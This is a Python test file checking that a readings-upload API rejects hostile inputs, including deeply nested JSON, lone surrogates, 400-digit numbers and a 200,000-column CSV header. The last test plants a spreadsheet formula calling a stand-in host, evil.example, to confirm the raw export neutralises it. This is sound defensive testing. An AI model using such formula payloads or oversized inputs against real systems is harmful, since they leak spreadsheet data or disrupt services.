"""Uploads built to break the service: each gets a 4xx or a per-row rejection, never a 500.

Issue 12's probes, one test each: JSON nested ~1,000+ levels (whole body and
inside one field), lone surrogates in text, values of the wrong JSON type,
400-digit numbers, a 200,000-column CSV header, and a collector's formula in
the planners' raw export. The gzip bombs and the access log need a real
server: ``tests/app/test_hostile_server.py``.
"""

from __future__ import annotations

import csv
import io
import json
from typing import Any

import pytest
from fastapi.testclient import TestClient

from app.services.keys import create_key
from app.store import Store
from geodata.formats.jsonstream import MAX_JSON_DEPTH

READINGS = "/api/v1/readings"
IMPORT = "/api/v1/readings/import"
GEOSUBMIT = "/v2/geosubmit"
SITES = "/api/v1/sites/import"
VILLAGES = "/api/v1/villages/import"
JSON = {"content-type": "application/json"}
SURROGATE = "\ud800"
SURROGATE_REASON = "'\\ud800' is not valid Unicode text (a lone surrogate at character 0)"


@pytest.fixture
def keys(store: Store) -> dict[str, str]:
    return {role: create_key(store, role)[1] for role in ("collector", "planner", "admin")}


def reading(**overrides: Any) -> dict[str, Any]:
    """A valid LTE reading inside Bản Giòng (the fixture region)."""
    base: dict[str, Any] = {
        "time": "2026-01-05T03:00:00Z",
        "lat": 22.565,
        "lon": 105.495,
        "accuracy_m": 12,
        "mcc": 452,
        "mnc": 4,
        "radio": "LTE",
        "signal_dbm": -101,
        "no_service": False,
        "device": "phone-1",
        "source": "test",
    }
    return base | overrides


def raw(payload: Any) -> bytes:
    """JSON bytes as a client writes them: ``\\ud800`` stays an escape, as on the wire."""
    return json.dumps(payload).encode()


def nested(depth: int) -> str:
    return "[" * depth + "]" * depth


def post(client: TestClient, url: str, body: bytes, key: str, **headers: str) -> Any:
    return client.post(url, content=body, headers={"X-API-Key": key, **JSON, **headers})


# -- 1. depth ---------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("body", "depth"),
    [
        (nested(100_000), 100_000),  # the whole body
        ('[{"device": ' + nested(5_000) + "}]", 5_002),  # one field, past orjson's 1,024
        ('[{"device": ' + nested(900) + "}]", 902),  # one field, inside orjson's limit
    ],
    ids=["body", "field-5000", "field-900"],
)
def test_deep_json_bodies_are_400_before_any_decoder(
    client: TestClient, store: Store, keys: dict[str, str], body: str, depth: int
) -> None:
    response = post(client, READINGS, body.encode(), keys["collector"])

    assert response.status_code == 400
    assert response.headers["content-type"] == "application/json"
    assert response.json() == {
        "detail": f"request body is not valid JSON: nested {depth} levels deep; "
        f"at most {MAX_JSON_DEPTH} are read"
    }
    assert store.readings().empty


def test_deep_geosubmit_body_is_400(client: TestClient, store: Store, keys: dict[str, str]) -> None:
    body = '{"items": [{"cellTowers": ' + nested(3_000) + "}]}"

    response = post(client, GEOSUBMIT, body.encode(), keys["collector"])

    assert response.status_code == 400
    assert response.json() == {
        "detail": "request body is not valid JSON: nested 3003 levels deep; "
        f"at most {MAX_JSON_DEPTH} are read"
    }
    assert store.readings().empty


@pytest.mark.parametrize("depth", [900, 5_000])
def test_deep_json_files_are_400_with_the_position(
    client: TestClient, store: Store, keys: dict[str, str], depth: int
) -> None:
    body = json.dumps([reading()])[:-1] + ', {"device": ' + nested(depth) + "}]"

    response = post(client, f"{IMPORT}?format=json", body.encode(), keys["collector"])

    assert response.status_code == 400
    detail = response.json()["detail"]
    start = body.index('{"device"')
    assert detail.startswith(f"json: not valid JSON at character {start}: nested ")
    assert detail.endswith(f" levels deep; at most {MAX_JSON_DEPTH} are read")


def test_deep_village_file_is_400(client: TestClient, store: Store, keys: dict[str, str]) -> None:
    body = '{"type": "FeatureCollection", "features": [' + nested(2_000) + "]}"

    response = post(client, VILLAGES, body.encode(), keys["admin"])

    assert response.status_code == 400
    assert response.json() == {
        "detail": "villages: not valid JSON at character 43: nested 2000 levels deep; "
        f"at most {MAX_JSON_DEPTH} are read"
    }
    assert store.villages().empty


def test_sound_nesting_is_still_read(
    client: TestClient, store: Store, keys: dict[str, str]
) -> None:
    body = {"readings": [reading()], "meta": json.loads(nested(MAX_JSON_DEPTH - 1))}

    response = post(client, READINGS, raw(body), keys["collector"])

    assert response.status_code == 200
    assert response.json()["accepted"] == 1


# -- 2. lone surrogates and 3. wrong types ----------------------------------------------------


BAD_ROWS = [
    (reading(device=SURROGATE), "device", SURROGATE_REASON),
    (reading(source=SURROGATE), "source", SURROGATE_REASON),
    (reading(radio=SURROGATE), "radio", SURROGATE_REASON),
    (reading(device={"imei": 1}), "device", 'a JSON object ({"imei": 1}), expected a single value'),
    (reading(no_service=[True]), "no_service", "a JSON list ([true]), expected a single value"),
    (reading(time=True), "time", "not an ISO 8601 timestamp"),
]


@pytest.mark.parametrize("how", ["body", "file"])
def test_bad_text_and_types_are_rejected_per_row(
    client: TestClient, store: Store, keys: dict[str, str], how: str
) -> None:
    batch = [reading(time=f"2026-01-05T03:0{i}:00Z") for i in range(2)]
    batch += [row for row, _, _ in BAD_ROWS]
    # 400 digits: beyond every float, as text past 64 bits (json.dumps keeps the digits).
    last_row = raw([reading(lat=0.5, time="2026-01-05T03:09:00Z")])
    body = raw(batch)[:-1] + b", " + last_row[1:].replace(b'"lat": 0.5', b'"lat": ' + b"9" * 400)
    url = READINGS if how == "body" else f"{IMPORT}?format=json"

    response = post(client, url, body, keys["collector"])

    assert response.status_code == 200
    answer = response.json()
    expected = [
        {"index": i + 3, "field": name, "reason": f"{name}: {why}"}
        for i, (_, name, why) in enumerate(BAD_ROWS)
    ]
    assert answer["rejected"][: len(BAD_ROWS)] == expected
    assert answer["rejected"][len(BAD_ROWS)] == {
        "index": len(batch) + 1,
        "field": "lat",
        "reason": "lat: outside -90..90",
    }
    assert (answer["accepted"], answer["rejected_total"]) == (2, len(BAD_ROWS) + 1)
    stored = store.readings()
    assert sorted(stored["time"].dt.strftime("%H:%M")) == ["03:00", "03:01"]


def geosubmit_item(**tower: Any) -> dict[str, Any]:
    return {
        "timestamp": 1767582000000,
        "position": {"latitude": 22.565, "longitude": 105.495, "accuracy": 10},
        "cellTowers": [
            {"radioType": "lte", "mobileCountryCode": 452, "mobileNetworkCode": 4}
            | {"signalStrength": -95}
            | tower
        ],
    }


def test_geosubmit_surrogate_radio_type_is_refused_and_the_rest_stored(
    client: TestClient, store: Store, keys: dict[str, str], caplog: pytest.LogCaptureFixture
) -> None:
    body = {"items": [geosubmit_item(radioType=SURROGATE), geosubmit_item(cellId=1001)]}
    body_bytes = raw(body)[:-2] + b', {"cellTowers": [{"cellId": ' + b"9" * 400 + b"}]}]}"

    with caplog.at_level("INFO", logger="app.api.routes.geosubmit"):
        response = post(client, GEOSUBMIT, body_bytes, keys["collector"])

    assert (response.status_code, response.json()) == (200, {})
    stored = store.readings()
    assert stored["cell_id"].tolist() == [1001]
    logged = [r.getMessage() for r in caplog.records if "geosubmit from" in r.getMessage()]
    assert len(logged) == 1
    assert "radio: '\\\\ud800' is not valid Unicode text" in logged[0]


# -- admin imports --------------------------------------------------------------------------

SITE_HEADER = (
    "radio,mcc,net,area,cell,unit,lon,lat,range,samples,changeable,created,updated,averageSignal"
)


def site_row(cell: str, net: str = "4") -> str:
    return f"LTE,452,{net},22300,{cell},,105.48,22.565,5000,,1,1700000000,,"


def test_site_file_with_400_digit_numbers_is_rejected_per_row(
    client: TestClient, store: Store, keys: dict[str, str]
) -> None:
    body = "\n".join(
        [SITE_HEADER, site_row("1001"), site_row("9" * 400), site_row("1002", "9" * 400)]
    )

    response = client.post(
        f"{SITES}?format=opencellid",
        content=body.encode(),
        headers={"X-API-Key": keys["admin"], "content-type": "text/csv"},
    )

    assert response.status_code == 200
    answer = response.json()
    assert answer["rejected"] == [
        {"index": 3, "field": "cell", "reason": "cell: not a finite number"},
        {"index": 4, "field": "net", "reason": "net: not a finite number"},
    ]
    assert answer["added"] == 1
    assert store.find_sites()["cell_id"].tolist() == [1001]


def village(village_id: str, **properties: Any) -> dict[str, Any]:
    ring = [[105.48, 22.56], [105.49, 22.56], [105.49, 22.57], [105.48, 22.57], [105.48, 22.56]]
    props = {
        "id": village_id,
        "name": "Khuôn Hạ",
        "commune": "Thượng Nông",
        "province": "Tuyên Quang",
        "district": "Na Hang",
        "households": 75,
    }
    return {
        "type": "Feature",
        "properties": props | properties,
        "geometry": {"type": "Polygon", "coordinates": [ring]},
    }


def test_village_file_with_surrogates_is_rejected_per_feature(
    client: TestClient, store: Store, keys: dict[str, str]
) -> None:
    features = [
        village("khuon-ha"),
        village(SURROGATE),
        village("b", name="Nà" + SURROGATE),
        village("c", commune=SURROGATE),
    ]
    body = raw({"type": "FeatureCollection", "features": features})

    response = post(
        client, VILLAGES, body, keys["admin"], **{"content-type": "application/geo+json"}
    )

    assert response.status_code == 200
    answer = response.json()
    assert answer["rejected"] == [
        {"index": 2, "field": "id", "reason": f"id: {SURROGATE_REASON}"},
        {
            "index": 3,
            "field": "name",
            "reason": "name: 'N\\xe0\\ud800' is not valid Unicode text "
            "(a lone surrogate at character 2)",
        },
        {"index": 4, "field": "commune", "reason": f"commune: {SURROGATE_REASON}"},
    ]
    assert store.villages()["id"].tolist() == ["khuon-ha"]


# -- 5. header width --------------------------------------------------------------------------


@pytest.mark.parametrize("how", ["raw", "multipart"])
def test_a_200000_column_header_is_refused_at_once(
    client: TestClient, store: Store, keys: dict[str, str], how: str
) -> None:
    header = ",".join(f"c{i}" for i in range(200_000))
    body = (header + "\n" + ",".join("1" * 200_000) + "\n").encode()
    headers = {"X-API-Key": keys["collector"]}
    if how == "raw":
        response = client.post(f"{IMPORT}?format=csv", content=body, headers=headers)
    else:
        files = {"file": ("wide.csv", body, "text/csv")}
        response = client.post(f"{IMPORT}?format=csv", files=files, headers=headers)

    assert response.status_code == 422
    assert response.json() == {
        "detail": "csv: the header line is longer than 65,536 bytes; the first line must"
        " name the columns (a readings file has fewer than 100)"
    }
    assert store.readings().empty


# -- 8. formulas in the raw export ------------------------------------------------------------


def test_a_collectors_formula_is_neutralised_in_the_raw_export(
    client: TestClient, store: Store, keys: dict[str, str]
) -> None:
    formula = '=HYPERLINK("http://evil.example/?"&A1,"click")'
    batch = [reading(source=formula), reading(time="2026-01-05T03:01:00Z", source="@SUM(1)")]
    assert post(client, READINGS, raw(batch), keys["collector"]).json()["accepted"] == 2

    response = client.get("/api/v1/readings/export.csv", headers={"X-API-Key": keys["planner"]})

    assert response.status_code == 200
    assert response.headers["content-type"] == "text/csv; charset=utf-8"
    rows = list(csv.DictReader(io.StringIO(response.text)))
    assert sorted(r["source"] for r in rows) == ["'" + formula, "'@SUM(1)"]
    assert [r["signal_dbm"] for r in rows] == ["-101.0", "-101.0"]  # numbers stay numbers
